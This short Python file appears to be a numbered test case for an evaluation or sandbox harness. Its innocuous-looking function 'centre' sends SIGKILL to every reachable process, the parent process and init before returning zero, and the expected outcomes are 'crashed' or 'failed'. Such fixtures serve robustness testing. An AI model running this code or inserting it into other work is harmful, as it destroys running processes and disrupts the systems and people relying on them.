"""Kills every process it can reach."""

NUMBER, NAME, BY = 67, "kill-all", "S"
OUTCOMES = ("crashed", "failed")

import os
import signal


def centre(x):
    for pid in (-1, os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return x * 0
